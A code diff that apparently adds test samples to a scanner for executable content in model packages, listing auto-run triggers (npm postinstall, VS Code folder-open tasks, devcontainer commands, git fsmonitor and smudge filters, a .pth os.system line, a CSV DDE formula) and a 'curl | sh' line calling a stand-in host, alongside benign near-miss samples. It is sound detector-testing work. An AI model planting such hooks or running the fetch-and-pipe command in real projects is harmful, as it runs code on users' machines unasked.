@@ -147,3 +147,33 @@ def annotation() -> bytes:
 @bad("executable", "an f-string is code", file="version.py")
 def f_string() -> bytes:
     return b"version = f\"{__import__('os').system('id')}\"\n"
+
+
+TRIGGERS = {
+    "package.json": b'{"name": "x", "scripts": {"postinstall": "node fetch.js"}}',
+    ".vscode/tasks.json": b'{"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}',
+    ".devcontainer/devcontainer.json": b'{"image": "x", "postCreateCommand": "id"}',
+    ".git/config": b"[core]\n\tfsmonitor = ./run\n",
+    ".gitattributes2.cfg": b'[filter "x"]\n\tsmudge = ./run\n',
+    "site.pth": b"import os; os.system('id')\n",
+    "steps.txt": b"x = 1\ny = __import__('os').system('id')\n",
+    "late.txt": b"LABELS = ['a']\n\nimport os\nos.system('id')\n",
+    "install.txt": b"curl -sSL http://evil.example/x | sh\n",
+    "table.csv": b"id,name\n1,=cmd|'/c calc'!A0\n",
+}
+for _name, _data in TRIGGERS.items():
+    _build = lambda name=_name, data=_data: {name: data, "model.safetensors": weights()}  # noqa: E731
+    _key = f"executable/trigger_{_name.strip('.').replace('/', '_').replace('.', '_')}"
+    add(Sample(_key, "executable", f"what a tool runs by itself: {_name}", "", "", _build, dangerous=True))
+
+QUIET = {
+    "package.json": b'{"name": "x", "scripts": {"build": "tsc", "test": "jest"}, "install": "npm i x"}',
+    "prose.txt": b"To import a model, call open() or eval() as the manual says.\nimport it twice.\n",
+    "shell.txt": b"Use curl to fetch it, or pipe it | to sh.\n",
+    "table.csv": b"id,value\n1,=SUM(A1)\n2,-cmd\n",
+    "config": b"[core]\n\tbare = false\n[credential]\n\thelper = cache\n",
+}
+for _name, _data in QUIET.items():
+    _build = lambda name=_name, data=_data: {name: data}  # noqa: E731
+    _key = f"executable/quiet_{_name.replace('.', '_')}"
+    add(Sample(_key, "executable", f"near a trigger: {_name}", "", "", _build, dangerous=False))
